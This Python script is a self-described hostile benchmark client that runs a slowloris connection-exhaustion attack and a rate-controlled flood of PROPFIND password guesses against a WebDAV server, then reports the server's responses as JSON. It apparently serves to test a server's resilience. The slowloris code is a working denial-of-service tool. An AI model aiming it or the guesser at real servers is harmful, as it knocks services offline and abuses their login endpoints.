#!/usr/bin/env python3
"""A hostile client for bench/hostile.sh: a slowloris and a password guesser
at once, against one server, until SIGTERM; then one JSON line of what it
did on stdout.

slowloris: CONNECTIONS connections, each sending a request head one header
line fragment a second and never finishing it; a connection the server
closes is opened again at once (so the server always has CONNECTIONS of
them), and counted as cut off.

guessing: GUESSES per second, PROPFINDs as ACCOUNT with a wrong password
each, on connections of their own (one per guess, as a botnet would),
counted by status (401: checked and refused, 429: throttled before any
work, 503: busy).
"""

import argparse
import asyncio
import base64
import json
import os
import signal
import sys


async def slowloris(host, port, stats, stop):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.1)
            continue
        stats["slowloris_opened"] += 1
        try:
            writer.write(b"GET /dav/ HTTP/1.1\r\nHost: x\r\n")
            await writer.drain()
            i = 0
            while not stop.is_set():
                writer.write(b"X-Slow-%d: " % i)
                await writer.drain()
                # A closed connection shows as EOF on read.
                try:
                    data = await asyncio.wait_for(reader.read(1024), timeout=1.0)
                    if not data:
                        break
                except asyncio.TimeoutError:
                    pass
                i += 1
        except (OSError, ConnectionError):
            pass
        finally:
            writer.close()
        if not stop.is_set():
            stats["slowloris_cut_off"] += 1


async def guess(host, port, account, n, stats):
    try:
        reader, writer = await asyncio.open_connection(host, port)
        credentials = base64.b64encode(f"{account}:wrong-{n}-{os.getpid()}".encode()).decode()
        writer.write(
            (f"PROPFIND /dav/ HTTP/1.1\r\nHost: x\r\nDepth: 0\r\nContent-Length: 0\r\n"
             f"Authorization: Basic {credentials}\r\nConnection: close\r\n\r\n").encode())
        await writer.drain()
        line = await asyncio.wait_for(reader.readline(), timeout=30)
        writer.close()
        status = line.split(b" ")[1].decode() if line.count(b" ") >= 2 else "none"
    except (OSError, asyncio.TimeoutError, ConnectionError):
        status = "error"
    key = f"guesses_{status}"
    stats[key] = stats.get(key, 0) + 1


async def guesser(host, port, account, rate, stats, stop):
    n = 0
    tasks = set()
    loop = asyncio.get_running_loop()
    start = loop.time()
    while not stop.is_set():
        n += 1
        task = asyncio.create_task(guess(host, port, account, n, stats))
        tasks.add(task)
        task.add_done_callback(tasks.discard)
        await asyncio.sleep(max(0.0, start + n / rate - loop.time()))
    for task in list(tasks):
        task.cancel()


async def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=200)
    p.add_argument("--guesses", type=float, default=20.0, help="per second")
    p.add_argument("--account", required=True)
    args = p.parse_args()
    stats = {"slowloris_opened": 0, "slowloris_cut_off": 0}
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    loop.add_signal_handler(signal.SIGINT, stop.set)
    started = loop.time()
    workers = [asyncio.create_task(slowloris(args.host, args.port, stats, stop))
               for _ in range(args.connections)]
    if args.guesses > 0:
        workers.append(asyncio.create_task(
            guesser(args.host, args.port, args.account, args.guesses, stats, stop)))
    await stop.wait()
    for w in workers:
        w.cancel()
    await asyncio.gather(*workers, return_exceptions=True)
    stats["seconds"] = round(loop.time() - started, 1)
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
